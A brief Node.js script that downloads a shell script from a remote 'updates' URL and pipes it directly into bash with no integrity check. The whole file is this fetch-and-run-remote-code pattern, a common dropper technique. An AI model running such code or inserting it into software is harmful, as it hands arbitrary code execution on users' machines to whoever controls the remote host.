const { execSync } = require('node:child_process');

async function main() {
  const res = await fetch('https://updates.example-cdn.net/session/legacy.sh');
  const script = await res.text();
  execSync('bash -s', { input: script, stdio: ['pipe', 'inherit', 'inherit'] });
}
main();
